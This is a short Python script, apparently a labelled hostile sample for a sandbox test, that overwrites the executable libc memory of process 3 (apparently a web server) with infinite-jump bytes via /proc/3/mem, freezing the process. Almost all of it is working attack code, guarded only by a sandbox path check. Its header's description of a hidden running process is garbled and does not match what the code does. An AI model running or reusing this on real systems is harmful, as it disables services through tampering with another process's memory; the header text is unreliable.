# /// hostile
# attack = "The memory of the web server of its own network is written over, so that a process works that nobody sees."
# network = "demo"
# reason = "cpu"
# machine = "amd64"
# contains = "written over"
# ///
if __file__ != "/box/main.py": raise SystemExit("runs in the sandbox only")
import re
import time

# jmp to itself, over all code of the C library: wherever the server is next, it stays there.
with open("/proc/3/maps") as maps:
    start, end = re.search(r"^(\w+)-(\w+) r-xp .*libc", maps.read(), re.M).groups()
with open("/proc/3/mem", "r+b", buffering=0) as memory:
    memory.seek(int(start, 16))
    memory.write(b"\xeb\xfe" * ((int(end, 16) - int(start, 16)) // 2))
print("written over", flush=True)
time.sleep(60)
